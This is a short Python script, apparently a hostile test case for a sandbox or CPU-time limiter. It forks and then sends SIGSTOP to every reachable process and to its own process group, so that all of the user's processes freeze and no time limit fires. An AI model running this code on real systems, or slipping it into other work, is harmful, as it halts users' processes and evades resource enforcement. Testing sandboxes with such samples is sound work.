"""Stops every process it can reach, itself included: no limit of CPU time will ever be reached."""

import os
import signal

os.fork()
os.kill(-1, signal.SIGSTOP)
os.kill(0, signal.SIGSTOP)
